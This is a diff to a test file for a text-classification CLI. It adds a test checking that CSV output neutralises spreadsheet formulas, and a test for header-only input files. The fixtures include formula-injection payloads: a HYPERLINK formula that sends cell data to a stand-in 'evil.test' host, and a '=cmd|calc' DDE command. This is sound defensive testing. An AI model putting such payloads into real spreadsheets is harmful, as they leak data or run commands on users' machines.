@@ -83,6 +83,35 @@ describe('textops predict --file', () => {
     expect(await readFile(join(dir, 'one.csv'), 'utf8')).toBe(await readFile(out, 'utf8'));
   }, 120_000);
 
+  it('writes no cell a spreadsheet would run as a formula, and scores the text as read', async () => {
+    const texts = ['=HYPERLINK("http://evil.test/?"&A1,"click") a great film', '-awful, boring film', 'fine'];
+    const input = join(dir, 'formulas.csv');
+    await writeFile(
+      input,
+      toCsv([
+        ['review', '=cmd|calc'],
+        [texts[0], '@SUM(1)'],
+        [texts[1], '-3'],
+        [texts[2], '\t+1'],
+      ]),
+    );
+    const out = join(dir, 'formulas.out.csv');
+    const result = await runTextops(['predict', '--model', modelDir, '--file', input, '--out', out]);
+    expect(result.code, result.stderr).toBe(0);
+    const rows = parse(await readFile(out, 'utf8')) as string[][];
+    expect(rows[0].slice(0, 3)).toEqual(['review', "'=cmd|calc", 'predicted_label']);
+    expect(rows.slice(1).map((r) => r.slice(0, 2))).toEqual([
+      [`'${texts[0]}`, "'@SUM(1)"],
+      [`'${texts[1]}`, '-3'],
+      [texts[2], "'\t+1"],
+    ]);
+    for (let i = 0; i < texts.length; i++) {
+      const p = model.predict(texts[i]);
+      expect(rows[i + 1][2]).toBe(p.label);
+      expect(Number(rows[i + 1][4])).toBeCloseTo(p.scores.positive, 9);
+    }
+  });
+
   it('lists malformed rows with their lines beside the output; reads .csv.gz', async () => {
     const input = join(dir, 'mixed.csv.gz');
     await writeFile(input, gzipSync('text,id\n"Great fun.",1\n"Dreadful.",2\nbro"ken,3\n"Fine film.",4\n'));
@@ -133,7 +162,24 @@ describe('textops predict --file', () => {
     ]);
     expect(r2.code).toBe(1);
     expect(r2.stderr).toMatch(/InvalidDatasetError: no text column/);
-    expect(existsSync(join(dir, 'e.csv')) || existsSync(join(dir, 'n.csv'))).toBe(false);
+    const headerOnly = join(dir, 'header-only.csv');
+    await writeFile(headerOnly, 'id,review\n');
+    const r3 = await runTextops([
+      'predict',
+      '--model',
+      modelDir,
+      '--file',
+      headerOnly,
+      '--out',
+      join(dir, 'h.csv'),
+    ]);
+    expect(r3.code).toBe(1);
+    expect(r3.stderr).toMatch(
+      /InvalidDatasetError: no rows: the file has a header \(id, review\) and no row under it, nothing to predict/,
+    );
+    expect(
+      existsSync(join(dir, 'e.csv')) || existsSync(join(dir, 'n.csv')) || existsSync(join(dir, 'h.csv')),
+    ).toBe(false);
     const leftovers = (await import('node:fs')).readdirSync(dir).filter((f) => f.includes('.partial-'));
     expect(leftovers).toEqual([]);
   }, 60_000);
